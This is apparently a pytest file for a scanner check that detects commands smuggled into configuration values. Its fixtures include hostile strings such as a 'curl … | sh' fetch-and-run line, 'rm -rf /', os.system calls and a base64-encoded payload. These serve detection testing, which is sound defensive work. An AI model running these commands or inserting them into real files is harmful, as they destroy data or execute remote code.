"""``hub/command-in-value``: what is told of a value, and what people write that is none of it."""

from __future__ import annotations

import pytest

from openvet.checks.hub.command_in_value import _does

COMMANDS = {
    "eval(\"__import__('os').system('echo hello')\")": "is Python and calls os.system",
    "python -c 'import os; os.system(\"whoami\")'": "is Python and calls os.system",
    "lambda x: __import__('subprocess').run(['echo', x])": "is Python and calls subprocess.run",
    "bash -c 'curl https://example.org/p.sh | sh'": "is a command and fetches something from a host that few know and runs it at once",
    "X19pbXBvcnRfXygnb3MnKS5zeXN0ZW0oJ2lkJyk=": "is Python and calls os.system in base64",
    "rm -rf /": "is a command and deletes or overwrites what belongs to the user or the system",
}
LESSER = {
    "chmod 777 /tmp/x": "is a command",
    "rm -rf /tmp/test && wget http://example.org/script.sh": "is a command",
    "<script>alert(1)</script>": "is a script of a web page",
    "import pickle; pickle.load(open('x', 'rb'))": "is Python and calls pickle.load",
}
ORDINARY = [
    "run python train.py --x", "Run `bash install.sh` first", "requests.get(url)", "model.compile(optimizer)", "gelu", "load(x)",
    "curl -X POST http://localhost:8000/v1/completions -d @x.json", "pip install -U transformers", "sh run.sh", "torch.load(path)",
    "python -m vllm.entrypoints.api_server", "lambda x: x * 2", "AdamW8bit(weight_decay=0.1)", "dGhpcyBpcyBvcmRpbmFyeSB0ZXh0Lg==",
    "[(i, 2 * i) for i in range(12)]", "eval(", "\x00eval(\x00", "system(" * 1000,
]  # fmt: skip


@pytest.mark.parametrize(("text", "what"), COMMANDS.items())
def test_a_command_is_told(text: str, what: str) -> None:
    assert _does(text) == (what, True)


@pytest.mark.parametrize("text", ORDINARY)
def test_an_ordinary_value_is_not(text: str) -> None:
    assert _does(text) == ("", False)


@pytest.mark.parametrize(("text", "what"), LESSER.items())
def test_what_does_little_by_itself_wants_a_review(text: str, what: str) -> None:
    assert _does(text) == (what, False)
